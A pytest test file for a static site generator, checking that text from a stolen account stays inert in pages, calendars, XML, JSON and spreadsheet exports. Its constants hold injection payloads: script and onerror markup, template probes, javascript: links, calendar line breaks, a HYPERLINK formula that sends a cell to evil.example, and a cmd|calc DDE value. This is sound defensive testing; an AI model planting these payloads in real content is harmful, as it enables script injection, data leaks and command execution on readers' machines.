"""What a stolen account writes into content stays text: in pages, in their data, in every file to be taken along."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from icalendar import Calendar
from lxml import etree
from lxml import html as lxml_html

from generator.commands.loading import load
from generator.sheets.columns import LISTS
from generator.sheets.values import guard, unguard
from generator.sheets.writing import as_csv
from tests.hostile import Written, declared_texts, write
from tests.planned import archive
from tests.test_config import STREET_MAP
from tests.tiny import TinySite

SUM = "62615533"  # 7919 * 7907: what a template that reads its data would write
MARKUP = (
    "z{n}z\"'><img src=x onerror=ran({n})></script></style></title></textarea></svg><script>ran({n})</script>"
    "{{{{7919*7907}}}}{{% raw %}}<!--]]>&lt;b&gt;\u2028 javascript:ran({n})"
)
LINES = "z{n}z\nX-RAN:{n}\nEND:VEVENT\nBEGIN:VALARM\u2028ATTACH:x\u0085BEGIN:VEVENT;,\\n\\"
SCHEME = "javascript:ran({n})//z{n}z"
FORMULA = '{sign}HYPERLINK("https://evil.example/?"&A1,"z{n}z")'
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\n=", "\t=", "'=")
PLAIN = "z{n}z chữ thường"
BODY = """\
## `<img src=x onerror=ran()>` &lt;script>ran()&lt;/script>

[a](village:bat-trang '"><img src=x onerror=ran()>') {{7919*7907}} &lt;img src=x onerror=ran()&gt;

    <script>ran()</script>

```
</code></pre><script>ran()</script>
```
"""
PLAIN_BODY = "## A `b`\n\n[a](village:bat-trang 'b')\n\n    c\n"
NOT_SHOWN = {"bridge", "zone", "speed", "feature", "holiday", "busline", "figure"}  # or not every field of theirs
CODES = {("Trip", "start"), ("Trip", "end")}  # are codes of stops, or refused
SETTINGS = "title: {vi: Trang thử, en: Test site}"


def numbered(text: str) -> Callable[[str], str]:
    """A payload that says in which field it stands."""
    seen: list[str] = []

    def payload(name: str) -> str:
        seen.append(name)
        number = len(seen)
        return text.format(n=number, sign=SIGNS[number % len(SIGNS)])

    return payload


def hostile_site(root: Path, text: str) -> tuple[TinySite, Written]:
    """A site with a planner and a street map, and one entry of each type with the text in every field."""
    site = TinySite(root, re.sub(r"  - \{id: car, detour.*\n", "", archive()))
    written = write(site, numbered(text), PLAIN_BODY if text == PLAIN else BODY)
    settings = site.read("content/site.yaml")
    said = json.dumps(text.format(n=0, sign="="), ensure_ascii=False)
    settings = settings.replace(SETTINGS, f"title: {{vi: {said}, en: {said}}}")
    settings = settings.replace("tagline: {vi: Một dòng, en: One line}", f"tagline: {said}")
    settings = re.sub(r"name: (MIT|CC BY 4.0|ODbL 1.0)\b", f"name: {said}".replace("\\", r"\\"), settings)
    street = STREET_MAP.replace("Máy chủ thử", said).replace(
        "© những người đóng góp, en: © contributors", f"{said}, en: {said}"
    )
    site.write("content/site.yaml", settings + street)
    site.build()
    return site, written


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    site, _ = hostile_site(tmp_path_factory.mktemp("plain") / "site", PLAIN)
    return site.tree()


@pytest.fixture(scope="module", params=[MARKUP, LINES, SCHEME, FORMULA], ids=["markup", "lines", "scheme", "formula"])
def given(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> tuple[dict[str, bytes], Written]:
    site, written = hostile_site(tmp_path_factory.mktemp("hostile") / "site", request.param)
    return site.tree(), written


def of(tree: dict[str, bytes], *ends: str) -> Iterator[tuple[str, bytes]]:
    found = [(path, data) for path, data in tree.items() if path.endswith(ends)]
    assert found, ends
    yield from found


def test_every_field_that_takes_a_text_has_its_payload(given: tuple[dict[str, bytes], Written]) -> None:
    _, written = given
    assert declared_texts() - written.declared == CODES


def test_payloads_are_published_as_text(given: tuple[dict[str, bytes], Written]) -> None:
    """Else the tests below would prove nothing."""
    tree, written = given
    pages = b"".join(data for path, data in tree.items() if path.endswith((".html", ".json", ".csv")))
    shown = {int(number) for number in re.findall(rb"z(\d+)z", pages)}
    hidden = [name for number, name in enumerate(written.fields, start=1) if number not in shown]
    print(f"{len(written.fields)} fields, {len(written.fields) - len(hidden)} of them published, {len(tree)} files")
    assert {name.split(".")[0] for name in hidden} <= NOT_SHOWN
    assert len(hidden) < len(written.fields) / 10, hidden


# ------------------------------------------------------------------------------------------------- pages


def parts(data: bytes) -> Iterator[tuple[str, str]]:
    """(element, attribute) of a page, and (element, "") for the element itself."""
    for element in lxml_html.document_fromstring(data, parser=lxml_html.HTMLParser(encoding="utf-8")).iter():
        if isinstance(element.tag, str):
            yield element.tag, ""
            yield from ((element.tag, str(name)) for name in element.attrib)


def test_no_element_and_no_attribute_comes_of_a_text(
    plain: dict[str, bytes], given: tuple[dict[str, bytes], Written]
) -> None:
    known = {part for _, data in of(plain, ".html") for part in parts(data)}
    pages = 0
    for path, data in of(given[0], ".html"):
        assert set(parts(data)) <= known, path
        pages += 1
    print(f"{pages} pages")


def test_every_address_leads_by_a_known_scheme(given: tuple[dict[str, bytes], Written]) -> None:
    for path, data in of(given[0], ".html"):
        for element in lxml_html.document_fromstring(data).iter():
            for name in ("href", "src", "action", "formaction", "data", "poster", "srcset"):
                value = element.get(name)
                if value is not None:
                    known = r"(https?://|mailto:|tel:|geo:|data:image/|[/#?.]|data:,|[\w-]+/|$)"
                    assert re.match(known, value), (path, value)


def test_scripts_are_files_and_data_reads_as_data(
    plain: dict[str, bytes], given: tuple[dict[str, bytes], Written]
) -> None:
    kinds = {key for _, data in of(plain, ".html") for found in islands(data) for key in keys(found)}
    for path, data in of(given[0], ".html"):
        assert SUM not in data.decode(), path
        for found in islands(data):
            assert set(keys(found)) <= kinds, path
        for island in re.findall(rb'<script type="application/[^"]*"[^>]*>(.*?)</script>', data, re.DOTALL):
            assert b"<" not in island, path


def islands(data: bytes) -> Iterator[Any]:
    for script in lxml_html.document_fromstring(data).iter("script"):
        if script.get("src"):
            assert "/static/" in script.get("src", ""), script.get("src")
        else:
            assert script.get("type") in ("application/json", "application/ld+json")
            yield json.loads(script.text or "null")


def keys(value: Any) -> Iterator[str]:
    """Names of fields, and the types that schema.org gives."""
    if isinstance(value, dict):
        yield from value
        yield from (str(kind) for name, kind in value.items() if name == "@type")
        for inner in value.values():
            yield from keys(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from keys(inner)


# ------------------------------------------------------------------------------------------------- other files


def test_xml_has_no_element_that_a_text_wrote(plain: dict[str, bytes], given: tuple[dict[str, bytes], Written]) -> None:
    ends = (".xml", ".gpx", ".kml", ".svg")
    known = {found for _, data in of(plain, *ends) for found in xml_parts(data)}
    for path, data in of(given[0], *ends):
        assert set(xml_parts(data)) <= known, path


def xml_parts(data: bytes) -> Iterator[tuple[str, str]]:
    """(element, attribute), also of the HTML that a KML file's descriptions are to those who show them."""
    for element in etree.fromstring(data, etree.XMLParser(resolve_entities=False)).iter():
        assert isinstance(element.tag, str)
        yield element.tag, ""
        yield from ((element.tag, str(name)) for name in element.attrib)
        if element.tag.endswith("description") and element.text:
            yield from parts(f"<div>{element.text}</div>".encode())


def test_calendars_have_no_line_that_a_text_wrote(
    plain: dict[str, bytes], given: tuple[dict[str, bytes], Written]
) -> None:
    known = {line for _, data in of(plain, ".ics") for line in calendar_lines(data)}
    for path, data in of(given[0], ".ics"):
        assert set(calendar_lines(data)) <= known, path
        assert Counter(part.name for part in Calendar.from_ical(data).walk()).keys() <= {"VCALENDAR", "VEVENT"}


def calendar_lines(data: bytes) -> Iterator[str]:
    """What each line begins with. Programs differ in what ends a line, so every sign that might is asked."""
    for line in re.sub(rb"\r\n ", b"", data).decode().splitlines():
        yield re.split("[:;]", line)[0]


def test_json_is_read_and_no_text_ends_it(plain: dict[str, bytes], given: tuple[dict[str, bytes], Written]) -> None:
    ends = (".json", ".geojson", ".webmanifest")
    known = {key for _, data in of(plain, *ends) for key in keys(json.loads(data))}
    for path, data in of(given[0], *ends):
        new = {key for key in keys(json.loads(data)) if key not in known}
        assert not any("ran(" in key or "X-RAN" in key or "evil" in key for key in new), path


# ------------------------------------------------------------------------------------------------- spreadsheets

RISKY = re.compile(r"\s*[=+\-@＝＋－＠]")


def test_no_cell_of_a_table_is_taken_for_a_formula(given: tuple[dict[str, bytes], Written]) -> None:
    cells = 0
    for path, data in of(given[0], ".csv"):
        for row in csv.reader(
            io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";" if b";" in data[:200] else ","
        ):
            for cell in row:
                assert not RISKY.match(cell) or re.fullmatch(r"-?[\d.]+", cell), (path, cell)
                cells += 1
    for path, data in of(given[0], ".xlsx"):
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            for name in book.namelist():
                assert "external" not in name.lower(), (path, name)
                part = book.read(name)
                assert b"<f>" not in part, (path, name)
                assert b"<f " not in part, (path, name)
                assert not (name.startswith("xl/worksheets/") and b"<hyperlink" in part), (path, name)
    print(f"{cells} cells")


@pytest.mark.parametrize("sign", SIGNS)
def test_a_guarded_text_is_no_formula_and_is_read_back_as_it_was(sign: str) -> None:
    for text in (f"{sign}1+1", f"{sign}cmd|' /C calc'!A0", sign):
        assert guard(text).startswith("'")
        assert unguard(guard(text)) == text


def test_a_list_for_staff_calculates_nothing(tmp_path: Path) -> None:
    site, _ = hostile_site(tmp_path / "site", FORMULA)
    loaded = load(site.config)
    for name in LISTS:
        text = as_csv(name, loaded.content(loaded.documents([name])), "vi").decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert len(rows) > 1
        assert not any(RISKY.match(cell) for row in rows for cell in row if not re.fullmatch(r"-?[\d.,]+", cell))
